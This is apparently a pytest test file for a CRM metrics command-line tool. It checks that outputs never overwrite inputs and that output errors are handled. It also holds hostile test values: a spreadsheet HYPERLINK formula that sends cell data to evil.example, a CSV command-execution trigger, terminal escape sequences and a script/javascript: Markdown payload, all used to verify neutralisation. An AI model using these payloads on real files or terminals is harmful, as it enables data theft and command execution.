"""Issue #9, the output side: hostile data and awkward targets never overwrite an input,
run as a formula or a terminal escape, break a Markdown table, or exit 70.

Each test names its cause number from the issue. Inputs are compared byte for byte
before and after every run that could have touched them.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from crmmetrics.cli import app
from crmmetrics.errors import ExitCode
from tests.conftest import ROOT, SURVEY_CONFIG, write

runner = CliRunner()
SURVEYS = "id,customer,type,score,date\n1,C1,nps,10,2026-01-05\n2,C2,nps,3,2026-01-06\n"


def run(*args: str, input: str | None = None):
    return runner.invoke(app, list(args), input=input)


def cli(*args: str, env: dict[str, str] | None = None, **kw) -> subprocess.CompletedProcess:
    """The installed entry point in a subprocess (for devices, signals, encodings)."""
    full_env = {**os.environ, **(env or {})}
    return subprocess.run([sys.executable, "-m", "crmmetrics", *args], capture_output=True, env=full_env, **kw)


def project(tmp_path: Path, plans: list[str] | None = None) -> Path:
    """Two NPS answers; customers C1 and C2 with the given plan texts (data under test)."""
    (tmp_path / "surveys.csv").write_text(SURVEYS, encoding="utf-8")
    plans = plans or ["Pro", "Basic"]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([["id", "plan"], ["C1", plans[0]], ["C2", plans[1]]])
    (tmp_path / "customers.csv").write_text(buf.getvalue(), encoding="utf-8")
    return write(tmp_path / "crm.yaml", SURVEY_CONFIG)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}


def error_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("crmmetrics: error:")]


# ------------------------------------------------ cause 1: an output over an input


@pytest.mark.parametrize("how", ["same path", "relative spelling", "symlink", "hard link", "the config"])
def test_output_over_an_input_is_refused_naming_it(tmp_path, how, monkeypatch):
    cfg = project(tmp_path)
    target = {"same path": str(tmp_path / "surveys.csv"), "relative spelling": "sub/../surveys.csv",
              "the config": str(cfg)}.get(how)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sub").mkdir()
    if how == "symlink":
        os.symlink(tmp_path / "surveys.csv", tmp_path / "report.csv")
        target = str(tmp_path / "report.csv")
    if how == "hard link":
        os.link(tmp_path / "surveys.csv", tmp_path / "report.csv")
        target = str(tmp_path / "report.csv")
    before = snapshot(tmp_path)
    res = run("compute", "nps", "-c", str(cfg), "-o", target, "-f", "csv")
    assert res.exit_code == ExitCode.CANTCREAT
    [line] = error_lines(res.stderr)
    shown = "crm.yaml" if how == "the config" else "surveys.csv"
    assert line.startswith(f"crmmetrics: error: -o {target} is the input ") and line.endswith("; refusing to overwrite an input")
    assert shown in line
    assert "crmmetrics: hint: write the output to another file" in res.stderr
    assert snapshot(tmp_path) == before


def test_output_over_an_input_override_is_refused(tmp_path):
    cfg = project(tmp_path)
    other = write(tmp_path / "export.csv", SURVEYS)
    before = snapshot(tmp_path)
    res = run("compute", "nps", "-c", str(cfg), "--input", f"surveys={other}", "-o", str(other), "-f", "csv")
    assert res.exit_code == ExitCode.CANTCREAT and f"is the input {other}" in res.stderr
    assert snapshot(tmp_path) == before


def test_init_force_never_replaces_one_of_its_inputs(tmp_path):
    export = write(tmp_path / "nps.csv", "Response ID,Customer ID,Score,Date\n1,C1,9,2026-01-05\n")
    before = export.read_bytes()
    res = run("init", str(export), "-o", str(export), "--force")
    assert res.exit_code == ExitCode.CANTCREAT
    assert error_lines(res.stderr) == [f"crmmetrics: error: -o {export} is the input {export}; refusing to overwrite an input"]
    assert export.read_bytes() == before


def test_sample_data_keeps_existing_files_without_force(tmp_path):
    demo = tmp_path / "demo"
    assert run("sample-data", str(demo), "-q").exit_code == 0
    (demo / "leads.csv").write_text("my own edits\n")
    before = snapshot(demo)
    res = run("sample-data", str(demo))
    assert res.exit_code == ExitCode.CANTCREAT
    assert error_lines(res.stderr) == [f"crmmetrics: error: {demo / 'customers.csv'} and 8 more exist; not replacing them"]
    assert snapshot(demo) == before
    assert run("sample-data", str(demo), "--force", "-q").exit_code == 0
    assert (demo / "leads.csv").read_bytes() == (ROOT / "sample_data" / "leads.csv").read_bytes()
    assert not [p for p in demo.iterdir() if p.name.endswith(".tmp")]


# ------------------------------------------------ cause 2: what atomic_write replaces


def test_output_to_character_devices_is_written_in_place(tmp_path):
    cfg = project(tmp_path)
    before = snapshot(tmp_path)
    assert run("compute", "nps", "-c", str(cfg), "-f", "csv", "-o", "/dev/null").exit_code == 0
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    res = cli("compute", "nps", "-c", str(cfg), "-f", "csv", "-p", "all", "-o", "/dev/stdout")
    assert res.returncode == 0, res.stderr
    assert res.stdout.decode().splitlines()[1].startswith("nps,all,")
    assert snapshot(tmp_path) == before


def test_output_to_a_fifo_is_written_in_place(tmp_path):
    cfg = project(tmp_path)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    proc = subprocess.Popen([sys.executable, "-m", "crmmetrics", "compute", "nps", "-c", str(cfg), "-f", "csv", "-p", "all",
                             "-o", str(fifo)], stderr=subprocess.PIPE)
    with open(fifo, "rb") as fh:
        data = fh.read()
    assert proc.wait(timeout=60) == 0, proc.stderr.read()
    assert data.decode().startswith("metric,period,") and stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_output_through_a_symlink_updates_the_target_and_keeps_the_link(tmp_path):
    cfg = project(tmp_path)
    (tmp_path / "reports").mkdir()
    real = tmp_path / "reports" / "nps.csv"
    real.write_text("old\n")
    link = tmp_path / "latest.csv"
    os.symlink(real, link)
    assert run("compute", "nps", "-c", str(cfg), "-o", str(link), "-p", "all").exit_code == 0
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text().startswith("metric,period,")


def test_new_files_follow_the_umask_and_replaced_files_keep_their_mode(tmp_path):
    from crmmetrics.io.output import atomic_write

    old = os.umask(0o022)
    try:
        atomic_write(tmp_path / "a.csv", b"x")
        assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o644
        os.umask(0o077)
        atomic_write(tmp_path / "b.csv", b"x")
        assert stat.S_IMODE((tmp_path / "b.csv").stat().st_mode) == 0o600
        os.chmod(tmp_path / "a.csv", 0o640)
        atomic_write(tmp_path / "a.csv", b"y")
        assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o640 and (tmp_path / "a.csv").read_bytes() == b"y"
    finally:
        os.umask(old)


def test_sigterm_while_writing_removes_the_temp_file_and_exits_143(tmp_path):
    cfg = project(tmp_path)
    out = tmp_path / "report.csv"
    out.write_text("previous\n")
    # fsync is the moment between writing the temp file and renaming it: send SIGTERM there.
    script = ("import os, signal, sys, time\n"
              "os.fsync = lambda fd: (os.kill(os.getpid(), signal.SIGTERM), time.sleep(5))\n"
              "from crmmetrics.cli import main\n"
              f"sys.argv = ['crmmetrics', 'compute', 'nps', '-c', {str(cfg)!r}, '-o', {str(out)!r}]\n"
              "main()\n")
    res = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert res.returncode == 143, res.stderr
    assert error_lines(res.stderr) == ["crmmetrics: error: terminated by signal SIGTERM while writing; the partial output was removed"]
    assert out.read_text() == "previous\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["crm.yaml", "customers.csv", "report.csv", "surveys.csv"]


def test_output_naming_a_folder_is_73(tmp_path):
    cfg = project(tmp_path)
    res = run("compute", "nps", "-c", str(cfg), "-f", "csv", "-o", str(tmp_path))
    assert res.exit_code == ExitCode.CANTCREAT and error_lines(res.stderr) == [f"crmmetrics: error: cannot write {tmp_path}: it is a folder"]


# ------------------------------------------------ cause 6: formula injection


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_neutralises_formula_text_but_not_numbers(tmp_path):
    cfg = project(tmp_path, [HYPERLINK, "-5"])
    res = run("compute", "nps", "-c", str(cfg), "-b", "plan", "-p", "all", "-f", "csv")
    assert res.exit_code == 0, res.stderr
    rows = {r["plan"]: r["value"] for r in csv.DictReader(io.StringIO(res.stdout))}
    # C1 (10) is a promoter: +100; C2 (3) a detractor: -100 stays a number.
    assert rows == {"'" + HYPERLINK: "100.0", "-5": "-100.0"}
    raw = run("compute", "nps", "-c", str(cfg), "-b", "plan", "-p", "all", "-f", "csv", "--no-csv-guard")
    assert {r["plan"] for r in csv.DictReader(io.StringIO(raw.stdout))} == {HYPERLINK, "-5"}


@pytest.mark.parametrize("text", ["+1+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\rx", "-1+1"])
def test_csv_guard_covers_every_owasp_trigger(text):
    from crmmetrics.render.safe import csv_field

    assert csv_field(text) == "'" + text
    assert csv_field(text, guard=False) == text
    assert csv_field(-5.0) == -5.0 and csv_field("-5") == "-5" and csv_field("+90.5") == "+90.5" and csv_field("a=b") == "a=b"


def test_xlsx_writes_formula_text_as_text_and_strips_control_characters(tmp_path):
    from openpyxl import load_workbook

    cfg = project(tmp_path, [HYPERLINK, "Ba\x01sic\x1b"])
    out = tmp_path / "r.xlsx"
    res = run("compute", "nps", "-c", str(cfg), "-b", "plan", "-p", "all", "-o", str(out))
    assert res.exit_code == 0, res.stderr
    ws = load_workbook(out)["results"]
    header = [c.value for c in ws[1]]
    cells = {ws.cell(row=r, column=header.index("plan") + 1).value: ws.cell(row=r, column=header.index("plan") + 1).data_type
             for r in (2, 3)}
    assert cells == {HYPERLINK: "s", "Basic": "s"}


# ------------------------------------------------ cause 7: terminal injection


def test_table_cells_are_plain_text_without_escapes(tmp_path):
    cfg = project(tmp_path, ["[/x]", "[red]Basic[/red]\x1b[2J\x1b]8;;http://evil\x07"])
    res = run("compute", "nps", "-c", str(cfg), "-b", "plan", "-p", "all", "-f", "table")
    assert res.exit_code == 0, res.stderr
    assert "[/x]" in res.stdout and "[red]Basic[/red]" in res.stdout
    assert "\x1b" not in res.stdout and "\x07" not in res.stdout


def test_report_first_screen_segments_carry_no_escape_sequences(tmp_path):
    cfg = project(tmp_path, ["\x1b[2J[red]Pro[/x]", "Basic"])
    res = run("report", "-c", str(cfg), "-b", "plan", "--as-of", "2026-03-01")
    assert res.exit_code == 0, res.stderr
    assert "· [red]Pro[/x]" in res.stdout and "\x1b" not in res.stdout


def test_stderr_issue_lines_carry_no_escape_sequences(tmp_path):
    cfg = project(tmp_path)
    (tmp_path / "surveys.csv").write_text(SURVEYS + "3,C1,nps,\x1b[2Jten,2026-01-07\n", encoding="utf-8")
    res = run("compute", "nps", "-c", str(cfg), "-f", "csv")
    assert res.exit_code == 0
    assert "\x1b" not in res.stderr and "surveys.csv:4: column 'score'" in res.stderr


# ------------------------------------------------ cause 8: Markdown


def test_markdown_escapes_what_breaks_a_table_or_injects_html(tmp_path):
    cfg = project(tmp_path, ["a|b <script>alert(1)</script> & `x` *y* [l](javascript:z)", "# head\nline"])
    res = run("compute", "nps", "-c", str(cfg), "-b", "plan", "-p", "all", "-f", "markdown")
    assert res.exit_code == 0, res.stderr
    lines = res.stdout.splitlines()
    assert len(lines) == 4  # header, rule, two rows: the newline did not break a row
    assert "| a\\|b &lt;script&gt;alert(1)&lt;/script&gt; &amp; \\`x\\` \\*y\\* \\[l\\](javascript:z) |" in res.stdout
    assert "| \\# head line |" in res.stdout
    assert all(line.count("|") - line.count("\\|") == lines[0].count("|") for line in lines)


# ------------------------------------------------ cause 18: output errors


def test_stdout_on_a_full_disk_is_exit_74(tmp_path):
    cfg = project(tmp_path)
    with open("/dev/full", "wb") as full:
        res = subprocess.run([sys.executable, "-m", "crmmetrics", "compute", "nps", "-c", str(cfg), "-f", "csv"],
                             stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
    assert res.returncode == ExitCode.IOERR
    assert res.stderr.splitlines() == ["crmmetrics: error: cannot write stdout: No space left on device",
                                       "crmmetrics: hint: free some disk space and run again"]
    res = cli("compute", "nps", "-c", str(cfg), "-f", "csv", "-o", "/dev/full")
    assert res.returncode == ExitCode.IOERR and b"cannot write /dev/full: No space left on device" in res.stderr


def test_an_ascii_terminal_gets_question_marks_not_a_crash(tmp_path):
    cfg = project(tmp_path, ["Kazanıldı", "Başarılı"])
    res = cli("compute", "nps", "-c", str(cfg), "-b", "plan", "-p", "all", "-f", "table",
              env={"PYTHONIOENCODING": "ascii", "LANG": "C", "LC_ALL": "C"})
    assert res.returncode == 0, res.stderr
    assert b"Kazan?ld?" in res.stdout


def test_non_utf8_file_names_give_valid_utf8_json(tmp_path):
    cfg = project(tmp_path)
    cfg.write_text(cfg.read_text().replace("path: surveys.csv", "path: 'surveys*.csv'"))
    os.rename(tmp_path / "surveys.csv", os.fsencode(tmp_path) + b"/surveys-\xff.csv")
    res = cli("compute", "nps", "-c", str(cfg), "-f", "json", "-p", "all")
    assert res.returncode == 0, res.stderr
    doc = json.loads(res.stdout.decode("utf-8"))  # strict UTF-8: no lone surrogates
    assert doc["inputs"][0]["path"].endswith("surveys-\ufffd.csv")


# ------------------------------------------------ cause 24: a table too long to read


def test_huge_table_is_plain_text_quickly_with_a_note(tmp_path):
    import datetime as dt

    cfg = project(tmp_path)
    days = 2600
    lines = [f"{i},C1,nps,{i % 11},{dt.date(2019, 1, 1) + dt.timedelta(days=i)}" for i in range(days)]
    (tmp_path / "surveys.csv").write_text("id,customer,type,score,date\n" + "\n".join(lines) + "\n")
    start = time.perf_counter()
    res = run("compute", "nps", "-c", str(cfg), "-p", "day", "-f", "table")
    took = time.perf_counter() - start
    assert res.exit_code == 0, res.stderr
    assert "crmmetrics: note: 2,600 rows are too many for a readable table; written as plain aligned text (use -f csv" in res.stderr
    body = res.stdout.splitlines()
    assert body[0] == "nps (points)" and body[1].split()[:2] == ["period", "value"]
    assert len([b for b in body if b[:4] in ("2019", "2020", "2021", "2022", "2023", "2024", "2025", "2026")]) == days
    assert took < 20


def test_check_output_over_an_input_is_refused(tmp_path):
    cfg = project(tmp_path)
    cfg.write_text(cfg.read_text() + "thresholds:\n  nps: {min: 30}\n")
    before = snapshot(tmp_path)
    res = run("check", "-c", str(cfg), "-o", str(tmp_path / "surveys.csv"))
    assert res.exit_code == ExitCode.CANTCREAT and "is the input" in res.stderr and "surveys.csv" in res.stderr
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("args", [["metrics"], ["explain", "nps"], ["check"]])
def test_any_command_printing_to_a_full_disk_is_exit_74(tmp_path, args):
    cfg = project(tmp_path)
    cfg.write_text(cfg.read_text() + "thresholds:\n  nps: {min: -100}\n")
    with open("/dev/full", "wb") as full:
        res = subprocess.run([sys.executable, "-m", "crmmetrics", *args, *(["-c", str(cfg), "--as-of", "2026-03-01"] if args == ["check"] else [])],
                             stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
    assert res.returncode == ExitCode.IOERR, res.stderr
    assert error_lines(res.stderr) == ["crmmetrics: error: cannot write stdout: No space left on device"]


def test_report_output_over_an_input_is_refused(tmp_path):
    cfg = project(tmp_path)
    os.rename(tmp_path / "surveys.csv", tmp_path / "surveys.txt")  # exports named .txt exist
    cfg.write_text(cfg.read_text().replace("path: surveys.csv", "path: surveys.txt\n    format: csv"))
    before = snapshot(tmp_path)
    res = run("report", "-c", str(cfg), "--as-of", "2026-03-01", "-o", str(tmp_path / "surveys.txt"))
    assert res.exit_code == ExitCode.CANTCREAT, res.stderr
    assert "is the input surveys.txt" in res.stderr or f"is the input {tmp_path / 'surveys.txt'}" in res.stderr
    assert snapshot(tmp_path) == before
